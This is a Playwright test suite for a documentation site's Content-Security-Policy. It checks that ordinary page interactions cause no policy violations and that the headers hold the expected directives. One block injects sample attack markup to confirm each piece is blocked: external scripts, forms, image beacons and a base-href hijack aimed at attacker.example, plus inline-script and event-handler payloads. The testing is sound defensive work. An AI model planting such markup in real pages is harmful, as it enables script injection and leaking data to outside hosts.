/** Everything that a page does, under the Content-Security-Policy that the build writes for its host. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { closePages, sharedChromium } from '../chromium.ts';
import { sampleProject } from './global-setup.ts';
import type { Project } from './project.ts';
import { realBuild } from './real-site.ts';
import { surveySite } from './survey-site.ts';
import { desktop } from './visit.ts';
import { WebHost } from './web-host.ts';

const survey = {
  proxyUrl: 'https://flags.example/api/frontend',
  clientKey: 'key',
  environment: 'test',
  targetUrl: 'https://feedback.example/post',
};
const toggle = { name: 'docs-feedback-survey-v1', enabled: true, variant: { name: 'disabled', enabled: false } };
const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };

let browser: Browser;
let project: Project;
let sample: WebHost;
let real: WebHost;
beforeAll(async () => {
  project = await sampleProject('policy');
  [browser, sample, real] = await Promise.all([
    sharedChromium(),
    surveySite(project, survey),
    WebHost.start(realBuild()),
  ]);
});
afterEach(() => Promise.all(browser.contexts().map((context) => context.close())));
afterAll(() => Promise.all([closePages(browser), sample?.stop(), real?.stop()]));

/** A page, and every complaint of the browser about the policy so far. */
async function openUnder(address: string): Promise<{ page: Page; stopped: string[] }> {
  const context = await browser.newContext({ viewport: desktop, permissions: ['clipboard-write', 'clipboard-read'] });
  const stopped: string[] = [];
  await context.exposeFunction('stopped', (what: string) => stopped.push(what));
  await context.addInitScript(() => {
    const { stopped: tell } = window as unknown as { stopped: (what: string) => void };
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample: code }) =>
      tell(`${violatedDirective} stops ${blockedURI} ${code}`),
    );
  });
  await context.route('https://flags.example/**', (route) =>
    route.fulfill(
      route.request().method() === 'GET' ? { json: { toggles: [toggle] }, headers: cors } : { headers: cors },
    ),
  );
  await context.route('https://feedback.example/**', (route) => route.fulfill({ status: 200, headers: cors }));
  await context.route('https://www.youtube-nocookie.com/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<h1>The player</h1>' }),
  );
  const page = await context.newPage();
  page.setDefaultTimeout(10_000);
  page.on('console', (message) => {
    if (/content.security.policy|refused to/i.test(message.text())) stopped.push(message.text());
  });
  await page.goto(address);
  await page.locator('html[data-has-hydrated=true]').waitFor({ state: 'attached' });
  return { page, stopped };
}

/** What readers do on each kind of page. Each ends when its effect is there to see. */
const visits: [what: string, site: 'sample' | 'real', path: string, act: (page: Page) => Promise<unknown>][] = [
  ['the home page, and the other theme', 'real', '/', otherTheme],
  ['a page with a diagram', 'sample', '/guides/markdown', (page) => drawing(page).waitFor()],
  ['a video that is played', 'sample', '/guides/markdown', playVideo],
  ['code that is copied, and a tab that is chosen', 'sample', '/guides/markdown', copyCode],
  ['islands', 'sample', '/guides/islands', useIslands],
  ['client navigation and an opened category', 'sample', '/guides/islands', navigate],
  ['the search page', 'real', '/search?q=gradual%20rollout', (page) => mainHeading(page, 2).waitFor()],
  ['the search dialog', 'real', '/topics', searchInDialog],
  ['an operation with its request samples filled in', 'real', '/reference/api/unleash/get-feature', fillSamples],
  ['a tool that reads toggles in a worker', 'real', '/try', askWhy],
  ['a category', 'real', '/how-to', (page) => mainHeading(page, 1).waitFor()],
  [
    'a page that does not exist',
    'real',
    '/tutorials/quickstrat',
    (page) => page.getByRole('main').getByRole('link', { name: 'Quickstart' }).first().waitFor(),
  ],
  ['the survey, from the flag to the thanks', 'sample', '/guides/second', answerSurvey],
];

const drawing = (page: Page) => page.getByRole('img', { name: 'An app asks Unleash' });
const mainHeading = (page: Page, level: number) => page.getByRole('main').getByRole('heading', { level }).first();

async function otherTheme(page: Page): Promise<void> {
  await page.getByRole('button', { name: /dark/i }).click();
  await page.locator('html[data-theme=dark]').waitFor();
}

async function playVideo(page: Page): Promise<void> {
  await page.getByRole('link', { name: /A walk through toggles/ }).click();
  await page.frameLocator('iframe[title="A walk through toggles"]').getByText('The player').waitFor();
}

async function copyCode(page: Page): Promise<void> {
  await page.getByRole('radio', { name: 'Python' }).first().check();
  await page.getByText('More about Python.').waitFor();
  await page
    .getByRole('button', { name: /^Copy code / })
    .first()
    .click();
  await page.getByRole('button', { name: /^Copied/ }).waitFor();
}

async function useIslands(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Alone plus one' }).click();
  await page.getByText('Alone is 2').waitFor();
}

async function navigate(page: Page): Promise<void> {
  const sidebar = page.getByRole('navigation', { name: 'documentation' });
  await sidebar.getByRole('link', { name: 'Markdown' }).click();
  await drawing(page).waitFor();
  await sidebar.getByText('Deep', { exact: true }).click();
  await sidebar.getByText('Deeper', { exact: true }).waitFor();
}

async function searchInDialog(page: Page): Promise<void> {
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox', { name: 'Search' }).fill('segments');
  await page.getByRole('option').first().waitFor();
}

async function fillSamples(page: Page): Promise<void> {
  await page.getByRole('radio', { name: 'Python' }).check();
  await page.getByText('Fill in the samples').click();
  const fields = page.locator('site-island[name=ApiConnection]').getByRole('textbox');
  await fields.first().fill('https://toggles.fjordbooks.example');
  await page
    .getByRole('region', { name: /: Python$/ })
    .getByText('toggles.fjordbooks.example')
    .first()
    .waitFor();
}

async function askWhy(page: Page): Promise<void> {
  const tool = page.getByRole('region', { name: 'Why is it off?' });
  await tool.getByLabel('plan').fill('club');
  await tool.getByRole('status').filter({ hasText: 'gift-cards is on' }).first().waitFor();
}

async function answerSurvey(page: Page): Promise<void> {
  const press = (name: string) => page.getByRole('button', { name, exact: true }).click();
  await press('Feedback');
  await page.getByRole('radio', { name: /^4/ }).check();
  await press('Next');
  await press('Skip');
  await page.getByRole('radio', { name: 'paying' }).check();
  const posted = page.waitForResponse('https://feedback.example/**');
  await press('Submit');
  await page.getByText('Thank you!').waitFor();
  await posted;
}

test.each(visits)('stops nothing of %s', async (_, site, path, act) => {
  const { page, stopped } = await openUnder((site === 'real' ? real : sample).url + path);
  await act(page);
  await page.waitForLoadState('networkidle');
  expect(stopped).toEqual([]);
});

test('stops nothing of a page that has moved', async () => {
  const { page, stopped } = await openUnder(`${sample.url}/old/guide?from=mail`);
  await page.waitForURL('**/guides/second?from=mail');
  expect(stopped).toEqual([]);
});

describe('what an attacker got into a page', () => {
  test.each<[what: string, markup: string]>([
    ['an inline script', '<script>ran()</script>'],
    ['a script of another host', '<script src="https://attacker.example/x.js"></script>'],
    ['an event handler', '<img src="/favicon.svg" onload="ran()">'],
    ['a javascript: address', '<iframe src="javascript:parent.ran()"></iframe>'],
    ['a form that leads elsewhere', '<form action="https://attacker.example/"><input autofocus></form>'],
    ['a picture that tells another host', '<img src="https://attacker.example/x.png">'],
    ['a style', '<p style="background: red">x</p>'],
    ['another base for links', '<base href="https://attacker.example/">'],
    ['an embedded document', '<object data="https://attacker.example/x"></object>'],
  ])('is stopped: %s', async (_, markup) => {
    const { page, stopped } = await openUnder(`${sample.url}/guides/second`);
    const harm: string[] = [];
    await page.exposeFunction('ran', () => harm.push('it ran'));
    // A request that the policy stops never gets this far.
    await page.route('https://attacker.example/**', (route) => {
      harm.push(route.request().url());
      return route.abort();
    });
    await page.evaluate((html) => {
      document.body.append(document.createRange().createContextualFragment(html));
      for (const form of document.querySelectorAll<HTMLFormElement>('form[action*=attacker]')) form.requestSubmit();
    }, markup);
    await expect.poll(() => stopped).not.toEqual([]);
    expect(harm).toEqual([]);
  });
});

test('the policy names what may run, by the site itself and by the hash of one script', async () => {
  const headers = await project.read('build/_headers');
  const policy = /Content-Security-Policy: (.*)/.exec(headers)?.[1] ?? '';
  const directives = Object.fromEntries(
    policy.split('; ').map((directive) => [directive.split(' ')[0], directive.split(' ').slice(1)]),
  );
  expect(directives['script-src']).toEqual(["'self'", expect.stringMatching(/^'sha256-.+'$/)]);
  expect(directives['style-src']).toEqual(["'self'"]);
  expect(directives['connect-src']).toEqual(["'self'", 'https://flags.example', 'https://feedback.example']);
  expect(directives).toMatchObject({
    'default-src': ["'self'"],
    'object-src': ["'none'"],
    'base-uri': ["'self'"],
    'form-action': ["'self'"],
    'frame-ancestors': ["'none'"],
  });
  expect(policy).not.toMatch(/unsafe|\*|http:/);
  expect(headers).toMatch(/X-Content-Type-Options: nosniff/);
  expect(headers).toMatch(/Referrer-Policy: strict-origin-when-cross-origin/);
  expect(headers).toMatch(/Permissions-Policy: camera=\(\), geolocation=\(\), microphone=\(\)/);
});
